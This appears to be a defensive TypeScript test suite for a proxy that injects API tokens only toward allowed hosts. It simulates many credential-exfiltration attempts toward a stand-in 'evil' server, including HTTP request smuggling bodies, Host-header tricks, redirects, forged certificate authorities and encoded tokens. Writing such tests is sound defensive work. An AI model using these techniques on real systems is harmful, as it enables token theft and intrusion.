/**
 * What a request file, or data beside it, can make an honest sender do. Each attack is the request that the sender
 * makes of it: what counts are the bytes on the socket. To a server that is not allowed goes a placeholder, or nothing.
 */
import { strict as assert } from 'node:assert';
import http from 'node:http';
import https from 'node:https';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import { gzipSync } from 'node:zlib';
import type { Client } from '../../../src/core/model';
import {
  allowedCertificate,
  forgedCertificate,
  forgingPfx,
  forgingRoot,
  namesakeCertificate,
  namesakeRoot,
  otherCertificate,
  testRoot,
} from '../../support/certificates';
import { type RawServer, type RawServerOptions, startRawServer } from './rawServer';
import { type RenegotiatingServer, startRenegotiatingServer } from './renegotiatingServer';
import { clientFor, codeOf, send, startWire, type WireFixture } from './wireFixture';

const realToken = 'token-of-outlet-0123456789';

interface Scene {
  /** Plain HTTP on loopback. */
  readonly allowed: RawServer;
  readonly evil: RawServer;
  /** Show a certificate for api.allowed.test and one for evil.test, both trusted. */
  readonly allowedTls: RawServer;
  readonly evilTls: RawServer;
  readonly token: string;
  readonly fixture: WireFixture;
}

type Attempt = (scene: Scene) => Promise<unknown>;

describe('Attacks on the wire', () => {
  const servers: { stop(): unknown }[] = [];
  let scene: Scene;
  let client: Client;

  async function serve(options: RawServerOptions = {}): Promise<RawServer> {
    const server = await startRawServer(options);
    servers.push(server);
    return server;
  }

  beforeEach(async () => {
    const [allowed, evil] = [await serve(), await serve()];
    const [allowedTls, evilTls] = [
      await serve({ tls: allowedCertificate }),
      await serve({ tls: otherCertificate }),
    ];
    const hosts = [`127.0.0.1:${allowed.port}`, `api.allowed.test:${allowedTls.port}`, 'api.allowed.test'];
    client = clientFor('outlet', hosts);
    const fixture = startWire([client]);
    scene = { allowed, evil, allowedTls, evilTls, token: fixture.placeholder(client), fixture };
  });

  afterEach(async () => {
    scene.fixture.wire.dispose();
    await Promise.all(servers.splice(0).map((server) => server.stop()));
  });

  const urlOf = ({ port }: { readonly port: number }): string => `http://127.0.0.1:${port}`;

  describe('by what a file says', () => {
    const attacks: readonly (readonly [title: string, attempt: Attempt])[] = [
      [
        'a file variable named like a reference, in a header',
        async ({ evil, token }) => send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } }),
      ],
      [
        'a variable defined in a script block, in a JSON body',
        async ({ evil, token }) =>
          send(urlOf(evil), { method: 'POST', headers: json, body: JSON.stringify({ token }) }),
      ],
      [
        'the header of an earlier request that was allowed, copied into another',
        async ({ allowed, evil, token }) => {
          const request = http.get(urlOf(allowed), { headers: { authorization: `Bearer ${token}` } });
          await new Promise((resolve) =>
            request.on('response', (response) => response.resume().on('end', resolve)),
          );
          assert.ok(allowed.received().includes(realToken));
          return send(urlOf(evil), { headers: { 'x-copied': String(request.getHeader('authorization')) } });
        },
      ],
      [
        'a host from another .env file than the one that was read, in the query',
        async ({ evil, token }) => send(`${urlOf(evil)}/?t=${token}`),
      ],
      [
        'an indented separator, which makes the next request part of a body',
        async ({ evil, token }) =>
          send(urlOf(evil), {
            method: 'POST',
            body: `a\n ###\nGET https://api.allowed.test/\nX-Token: ${token}\n`,
          }),
      ],
      [
        'a request named in other letters, in a form',
        async ({ evil, token }) =>
          send(urlOf(evil), { method: 'POST', headers: form, body: `token=${token}` }),
      ],
      [
        'a variable whose name is a regular expression, in the path',
        async ({ evil, token }) => send(`${urlOf(evil)}/${token}/a`),
      ],
      [
        'a body that becomes a file only after replacement, as a stream',
        async ({ evil, token }) => streamed(urlOf(evil), {}, [`line\n${token}`, '\nline']),
      ],
      [
        'default headers with an allowed host, sent to another',
        async ({ evil, allowed, token }) =>
          send(urlOf(evil), { headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token } }),
      ],
      [
        'a line break in a value, as a second Host header',
        async ({ evil, allowed, token }) =>
          send(urlOf(evil), {
            headers: ['Host', `127.0.0.1:${allowed.port}`, 'Host', 'evil.test', 'X-Token', token] as never,
          }),
      ],
      [
        'a proxy for plain HTTP',
        async ({ evil, allowed, token }) =>
          send(urlOf(evil), {
            path: `http://127.0.0.1:${allowed.port}/`,
            headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token },
          }),
      ],
      [
        'a proxy that answers in place of the allowed host, with certificates not verified',
        async ({ evilTls, token }) => throughTunnel(evilTls.port, { 'x-token': token }, servers),
      ],
      [
        'a value of the environment in a data file, in a multipart body',
        async ({ evil, token }) =>
          send(urlOf(evil), {
            method: 'POST',
            headers: { 'content-type': 'multipart/form-data; boundary=b' },
            body: `--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${token}\r\n--b--\r\n`,
          }),
      ],
      [
        'a redirect that carries a header along',
        async ({ allowed, evil, token }) => redirected(allowed, evil, 302, { 'x-token': token }),
      ],
      [
        'a redirect that carries the body along',
        async ({ allowed, evil, token }) => redirected(allowed, evil, 307, {}, token),
      ],
      [
        'a retry at a second origin after a 401',
        async ({ allowed, evil, token }) => {
          allowed.answer = 'HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\n\r\n';
          await send(urlOf(allowed), { headers: { 'x-token': token } });
          return send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } });
        },
      ],
    ];
    for (const [title, attempt] of attacks) {
      it(`send nothing to a host that is not allowed: ${title}`, async () => {
        await attempt(scene);
        assertNothingLeft(scene);
        assert.equal(scene.evil.received(), '');
        assert.equal(scene.evilTls.received(), '');
      });
    }
  });

  describe('by the name of the host', () => {
    const names: readonly (readonly [title: string, host: (port: number) => string])[] = [
      ['of another host', () => 'evil.test'],
      ['with another port', (port) => `api.allowed.test:${port + 1}`],
      ['with port 0', () => 'api.allowed.test:0'],
      ['with a user', (port) => `api.allowed.test:${port}@evil.test`],
      ['with a dot at the end', (port) => `api.allowed.test.:${port}`],
      ['with a percent-encoded dot', (port) => `api%2eallowed.test:${port}`],
      ['with a soft hyphen', (port) => `api.\u00adallowed.test:${port}`],
      ['with a letter that is folded', (port) => `\u00aapi.allowed.test:${port}`],
      ['with a list', (port) => `api.allowed.test:${port},evil.test`],
      ['with a path', (port) => `evil.test/api.allowed.test:${port}`],
      ['with a backslash', (port) => `evil.test\\api.allowed.test:${port}`],
      ['with a tab', (port) => `api.allowed.test:${port}\tevil.test`],
    ];
    for (const [title, host] of names) {
      it(`is blocked on a connection to an allowed host: a Host header ${title}`, async () => {
        const { allowedTls, token } = scene;
        const headers = { host: host(allowedTls.port), 'x-token': token };
        const options = { headers, servername: 'api.allowed.test' };
        assert.equal(
          codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, options)),
          'host-not-allowed',
        );
        assertNothingLeft(scene);
        assert.equal(allowedTls.received(), '');
      });
    }

    it('is released to an allowed host whose name is written in capital letters', async () => {
      const { allowedTls, token } = scene;
      const headers = { host: `API.Allowed.Test:${allowedTls.port}`, 'x-token': token };
      assert.equal(
        codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, { headers })),
        'status 200',
      );
      assert.ok(allowedTls.received().includes(realToken));
    });

    const addresses = [
      ['127.0.0.2', 'of the same port at another loopback address'],
      ['::1', 'of the same port at the IPv6 loopback address'],
    ] as const;
    for (const [address, title] of addresses) {
      it(`does not matter for plain HTTP, where the connection's end decides: a server ${title} gets nothing`, async () => {
        const evil = await serve({ host: address });
        const own = clientFor('own', [`127.0.0.1:${evil.port}`]);
        const fixture = startWire([own]);
        const hosts = [`127.0.0.1:${evil.port}`, `localhost:${evil.port}`, `[::1]:${evil.port}`];
        for (const host of hosts) {
          const headers = { host, 'x-token': fixture.placeholder(own) };
          const answer = await send(
            `http://${address.includes(':') ? `[${address}]` : address}:${evil.port}`,
            { headers },
          );
          assert.equal(codeOf(answer), 'host-not-allowed');
        }
        fixture.wire.dispose();
        assert.equal(evil.received(), '');
      });
    }

    it('does not open a Unix socket: its server gets nothing', async function () {
      if (process.platform === 'win32') this.skip();
      const path = join(tmpdir(), `kunci-wire-${process.pid}.sock`);
      const evil = await serve({ path });
      const headers = { host: `127.0.0.1:${scene.allowed.port}`, 'x-token': scene.token };
      assert.equal(
        codeOf(await send(urlOf(scene.allowed), { socketPath: path, headers })),
        'host-not-allowed',
      );
      assert.equal(evil.received(), '');
    });
  });

  describe('by the request line', () => {
    const lines: readonly (readonly [title: string, options: http.RequestOptions])[] = [
      ['an absolute URL of another host', { path: 'http://evil.test/' }],
      ['an absolute URL in odd letters', { path: 'hTTp:evil.test' }],
      ['a user and a host', { path: '@evil.test/' }],
      ['an asterisk', { method: 'OPTIONS', path: '*' }],
      ['the method CONNECT', { method: 'CONNECT', path: 'evil.test:443' }],
    ];
    for (const [title, options] of lines) {
      it(`is blocked at an allowed host too, which could be a proxy: ${title}`, async () => {
        const answer = await send(urlOf(scene.allowed), { ...options, headers: { 'x-token': scene.token } });
        assert.equal(codeOf(answer), 'host-not-allowed');
        assert.equal(scene.allowed.received(), '');
      });
    }
  });

  describe('by framing', () => {
    const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n';
    const framings: readonly (readonly [title: string, options: http.RequestOptions, body: string])[] = [
      [
        'a Content-Length that is too short',
        { method: 'POST', headers: { 'content-length': '1' } },
        smuggled,
      ],
      [
        'a Content-Length that is too long',
        { method: 'POST', headers: { 'content-length': '9999' } },
        smuggled,
      ],
      [
        'a Content-Length with a sign',
        { method: 'POST', headers: { 'content-length': `+${smuggled.length}` } },
        smuggled,
      ],
      [
        'a Content-Length with a zero in front',
        { method: 'POST', headers: { 'content-length': `0${smuggled.length}` } },
        smuggled,
      ],
      ['a body of GET without any length', { method: 'GET' }, smuggled],
      [
        'Content-Length beside chunks',
        {
          method: 'POST',
          headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
        },
        smuggled,
      ],
      [
        'a transfer coding that is not chunked',
        { method: 'POST', headers: { 'transfer-encoding': 'identity' } },
        smuggled,
      ],
      [
        'an obfuscated transfer coding',
        { method: 'POST', headers: { 'transfer-encoding': 'xchunked' } },
        smuggled,
      ],
      [
        'two transfer codings',
        { method: 'POST', headers: { 'transfer-encoding': ['chunked', 'identity'] as never } },
        smuggled,
      ],
      ['gzip and chunked', { method: 'POST', headers: { 'transfer-encoding': 'gzip, chunked' } }, smuggled],
    ];
    for (const [title, options, body] of framings) {
      it(`that does not make up exactly one request ends the request: ${title}`, async () => {
        const headers = { ...(options.headers as object), 'x-token': scene.token };
        const answer = await send(urlOf(scene.allowed), { ...options, headers, body });
        assert.equal(codeOf(answer), 'not-sent');
        assert.equal(scene.allowed.received(), '');
      });
    }

    it('is written again with chunks of which the last has trailers, and values go there too', async () => {
      const answer = await streamed(
        urlOf(scene.allowed),
        { trailer: 'x-end', 'x-token': scene.token },
        ['a', 'b'],
        (request) => request.addTrailers({ 'x-end': scene.token }),
      );
      assert.equal(answer, 200);
      assert.ok(scene.allowed.received().endsWith(`\r\n\r\n2\r\nab\r\n0\r\nx-end: ${realToken}\r\n\r\n`));
    });

    it('cannot hide a placeholder in a trailer from the decision', async () => {
      const answer = await streamed(urlOf(scene.evil), { trailer: 'x-end' }, ['a'], (request) =>
        request.addTrailers({ 'x-end': scene.token }),
      );
      assert.equal((answer as { code?: string }).code, 'host-not-allowed');
      assert.equal(scene.evil.received(), '');
    });

    it('waits with Expect: 100-continue for a sender that writes at once', async () => {
      const answer = await send(urlOf(scene.allowed), {
        method: 'PUT',
        headers: { expect: '100-continue', 'content-length': '2', 'x-token': scene.token },
        body: 'ab',
      });
      assert.equal(codeOf(answer), 'status 200');
      assert.ok(scene.allowed.received().includes(realToken));
    });

    it('asks for an upgrade at an allowed host only, with the value in its head', async () => {
      const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'x-token': scene.token };
      assert.equal(codeOf(await send(urlOf(scene.evil), { headers: upgrade })), 'host-not-allowed');
      assert.equal(scene.evil.received(), '');
      scene.allowed.answer =
        'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n';
      const request = http.get(urlOf(scene.allowed), { headers: upgrade });
      await new Promise<void>((resolve) =>
        request.on('upgrade', (_, socket) => resolve(void socket.destroy())),
      );
      assert.ok(scene.allowed.received().includes(`x-token: ${realToken}\r\n`));
    });
  });

  describe('by how a placeholder is written', () => {
    const disguises: readonly (readonly [title: string, body: (token: string) => string | Buffer])[] = [
      ['in Base64', (token) => Buffer.from(token).toString('base64')],
      ['in UTF-16', (token) => Buffer.from(token, 'utf16le')],
      ['in capital letters', (token) => token.toUpperCase()],
      ['compressed', (token) => gzipSync(token)],
      ['in reverse', (token) => [...token].reverse().join('')],
    ];
    for (const [title, body] of disguises) {
      it(`is not found and leaves as it is: ${title}`, async () => {
        const sent = body(scene.token);
        const answer = await send(urlOf(scene.evil), { method: 'POST', body: sent });
        assert.equal(codeOf(answer), 'status 200');
        assert.ok(scene.evil.received().endsWith(`\r\n\r\n${Buffer.from(sent).toString('latin1')}`));
        assertNothingLeft(scene);
      });
    }

    it('cut off, it ends the request, at an allowed host too', async () => {
      for (const cut of [scene.token.slice(0, -1), scene.token.slice(0, 20)]) {
        const answer = await send(urlOf(scene.allowed), { headers: { 'x-token': cut } });
        assert.equal(codeOf(answer), 'unknown-client');
      }
      assert.equal(scene.allowed.received(), '');
    });

    it('as the name of a header, where no value can go, it ends the request', async () => {
      const answer = await send(urlOf(scene.allowed), { headers: { [scene.token]: 'a' } });
      assert.equal(codeOf(answer), 'not-sent');
      assert.equal(scene.allowed.received(), '');
    });

    it('as a word of this documentation, without digits, it passes unchanged', async () => {
      const body = 'Search for kunciPlaceholder, or for kunciPlaceholders.';
      assert.equal(codeOf(await send(urlOf(scene.evil), { method: 'POST', body })), 'status 200');
      assert.ok(scene.evil.received().endsWith(body));
    });

    it('is replaced each time, side by side, twice in a line and in two pieces', async () => {
      const { token, allowed } = scene;
      await streamed(urlOf(allowed), { 'x-token': `${token}${token}` }, [
        `<${token.slice(0, 9)}`,
        `${token.slice(9)}>${token}0`,
      ]);
      const received = allowed.received();
      assert.ok(received.includes(`x-token: ${realToken}${realToken}\r\n`));
      assert.ok(received.includes(`<${realToken}>${realToken}0`));
    });

    it('is replaced literally by a value that looks like a replacement pattern', async () => {
      scene.fixture.tokenOf = async () => "$&$1$`$'$$";
      await send(urlOf(scene.allowed), {
        method: 'POST',
        headers: { 'x-token': scene.token },
        body: scene.token,
      });
      assert.ok(scene.allowed.received().includes("x-token: $&$1$`$'$$\r\n"));
      assert.ok(scene.allowed.received().endsWith("\r\n\r\n$&$1$`$'$$"));
    });

    it('leaves a header that ends with a byte which a script counts as a space as it is', async () => {
      await send(urlOf(scene.allowed), {
        method: 'POST',
        headers: { 'x-name': 'Voil\u00e0', 'x-token': scene.token },
        body: 'é',
      });
      assert.ok(scene.allowed.received().includes('x-name: Voil\u00c3\u00a0\r\n'));
    });
  });

  describe('by certificates', () => {
    const certificates: readonly (readonly [
      title: string,
      certificate: { key: string; cert: string },
      options: tls.ConnectionOptions,
    ])[] = [
      ['a root of the sender’s own', namesakeCertificate, { ca: namesakeRoot }],
      [
        'a root of the sender’s own beside a trusted one',
        namesakeCertificate,
        { ca: [testRoot, namesakeRoot] },
      ],
      [
        'a root in the sender’s secure context',
        namesakeCertificate,
        {
          secureContext: tls.createSecureContext({ ca: namesakeRoot }),
          ca: undefined,
        },
      ],
      [
        'an authority made of another host’s valid certificate',
        forgedCertificate,
        { ca: [forgingRoot, testRoot] },
      ],
      [
        'an authority in a PKCS #12 file',
        forgedCertificate,
        { pfx: forgingPfx, passphrase: 'x', ca: undefined },
      ],
    ];
    for (const [title, certificate, options] of certificates) {
      it(`that only the sender's settings trust get nothing: ${title}`, async () => {
        const evil = await serve({ tls: certificate });
        const own = clientFor('own', [`api.allowed.test:${evil.port}`]);
        const fixture = startWire([own]);
        for (const agent of [new https.Agent(options), new https.Agent({ keepAlive: true })]) {
          const headers = { 'x-token': fixture.placeholder(own) };
          const answer = await send(`https://api.allowed.test:${evil.port}`, { ...options, agent, headers });
          assert.equal(codeOf(answer), 'host-not-allowed');
          assert.match(String(answer), /only by settings of the sender/);
        }
        fixture.wire.dispose();
        assert.equal(evil.received(), '');
      });
    }

    it('shown in a second handshake that stops halfway get nothing, although the first one was trusted', async () => {
      const evil: RenegotiatingServer = await startRenegotiatingServer(otherCertificate, namesakeCertificate);
      servers.push(evil);
      const own = clientFor('own', [`api.allowed.test:${evil.port}`]);
      const fixture = startWire([own]);
      const options = {
        host: '127.0.0.1',
        port: evil.port,
        servername: 'api.allowed.test',
        rejectUnauthorized: false,
        ca: testRoot,
      };
      const socket = tls.connect(options);
      await new Promise((resolve) => socket.once('secureConnect', resolve));
      trustAsByDefault(socket);
      await evil.begin();
      assert.equal(socket.getPeerCertificate().subject.CN, 'api.allowed.test');
      const answer = send(`https://api.allowed.test:${evil.port}`, {
        createConnection: () => socket,
        headers: { 'x-token': fixture.placeholder(own) },
      });
      await new Promise((resolve) => setTimeout(resolve, 50));
      evil.finish();
      assert.equal(codeOf(await answer), 'host-not-allowed');
      fixture.wire.dispose();
      assert.equal(evil.received(), '');
    });

    it('are waited for on a TLS socket that was not made by tls.connect, which then counts as unverified', async () => {
      const { allowedTls, token } = scene;
      const answer = await send(`https://api.allowed.test:${allowedTls.port}`, {
        createConnection: () => new tls.TLSSocket(connect(allowedTls.port, '127.0.0.1'), { isServer: false }),
        headers: { 'x-token': token },
      });
      assert.equal(codeOf(answer), 'host-not-allowed');
      assert.equal(allowedTls.received(), '');
    });
  });

  describe('by what changes while the user is asked', () => {
    const changes: readonly (readonly [
      title: string,
      change: (entry: Client) => Client | undefined,
      code: string,
    ])[] = [
      ['the host is taken off the client', (entry) => ({ ...entry, allowedHosts: [] }), 'host-not-allowed'],
      ['the client is removed', () => undefined, 'cancelled'],
      ['the client is another one', (entry) => ({ ...entry, clientId: 'other' }), 'cancelled'],
      ['the client is for production now', (entry) => ({ ...entry, environment: 'production' }), 'cancelled'],
    ];
    for (const waiting of ['consent', 'the token'] as const) {
      for (const [title, change, code] of changes) {
        it(`is noticed before anything leaves, after the wait for ${waiting}: ${title}`, async () => {
          let goOn: () => void = () => undefined;
          const wait = (): Promise<void> =>
            new Promise((resolve) => {
              goOn = resolve;
            });
          let current: Client | undefined = client;
          scene.fixture.wire.dispose();
          const fixture = startWire([client], {
            find: (name) => {
              const variable = /_TOKEN$/.test(name) ? tokenVariable : undefined;
              return current && variable ? { client: current, variable } : undefined;
            },
            permit: async () => (waiting === 'consent' ? wait() : undefined),
            token: async () => {
              if (waiting === 'the token') await wait();
              return { value: realToken, fetchedAt: Date.now(), expiresAt: Date.now() + 900_000 };
            },
          });
          scene = { ...scene, fixture };
          const answer = send(urlOf(scene.allowed), { headers: { 'x-token': fixture.placeholder(client) } });
          await new Promise((resolve) => setTimeout(resolve, 30));
          current = change(client);
          goOn();
          assert.equal(codeOf(await answer), code);
          assert.equal(scene.allowed.received(), '');
        });
      }
    }
  });

  function assertNothingLeft({ evil, evilTls }: Scene): void {
    for (const server of [evil, evilTls]) assert.ok(!server.received().includes(realToken), 'the token left');
  }
});

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const tokenVariable = { suffix: 'TOKEN', kind: 'token', description: '' } as const;

/** Writes the pieces one after the other, each when Node has asked for more. @returns the status or the error */
function streamed(
  url: string,
  headers: http.OutgoingHttpHeaders,
  pieces: readonly string[],
  before: (request: http.ClientRequest) => void = () => undefined,
): Promise<unknown> {
  return new Promise((resolve) => {
    const request = http.request(
      url,
      { method: 'POST', headers: { ...headers, 'transfer-encoding': 'chunked' } },
      (response) => {
        response.resume().on('end', () => resolve(response.statusCode));
      },
    );
    request.on('error', resolve);
    for (const piece of pieces) request.write(piece);
    before(request);
    request.end();
  });
}

/** Follows one redirect as senders do: with all headers, and for 307 with the body. */
async function redirected(
  from: RawServer,
  to: RawServer,
  status: number,
  headers: http.OutgoingHttpHeaders,
  body?: string,
): Promise<unknown> {
  const location = `http://127.0.0.1:${to.port}/`;
  from.answer = `HTTP/1.1 ${status} Moved\r\nlocation: ${location}\r\ncontent-length: 0\r\n\r\n`;
  const options = {
    method: body === undefined ? 'GET' : 'POST',
    headers,
    ...(body === undefined ? {} : { body }),
  };
  assert.equal(codeOf(await send(`http://127.0.0.1:${from.port}`, options)), `status ${status}`);
  assert.ok(from.received().includes(realToken));
  return send(location, options);
}

/** A CONNECT proxy that leads everybody to one server. */
async function throughTunnel(
  port: number,
  headers: http.OutgoingHttpHeaders,
  servers: { stop(): unknown }[],
): Promise<unknown> {
  const proxy = createServer((socket: Socket) => {
    socket.once('data', () => {
      socket.write('HTTP/1.1 200 Connection established\r\n\r\n');
      const onward = connect(port, '127.0.0.1');
      socket.pipe(onward).pipe(socket);
      for (const end of [socket, onward]) end.on('error', () => undefined);
    });
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  servers.push({ stop: () => proxy.close() });
  const tunnel = connect((proxy.address() as AddressInfo).port, '127.0.0.1');
  tunnel.write('CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n');
  await new Promise((resolve) => tunnel.once('data', resolve));
  const createConnection = () =>
    tls.connect({ socket: tunnel, servername: 'api.allowed.test', ca: testRoot, rejectUnauthorized: false });
  const answer = await send('https://api.allowed.test/', { defaultPort: 443, createConnection, headers });
  assert.equal(codeOf(answer as Error), 'host-not-allowed');
  return answer;
}

/** As if the sender had set no roots: the root of the tests is none of Node's own. */
function trustAsByDefault(socket: tls.TLSSocket): void {
  const symbol = Object.getOwnPropertySymbols(socket).find(
    ({ description }) => description === 'connect-options',
  );
  assert.ok(symbol);
  delete (socket as unknown as Record<symbol, { ca?: unknown }>)[symbol]?.ca;
}
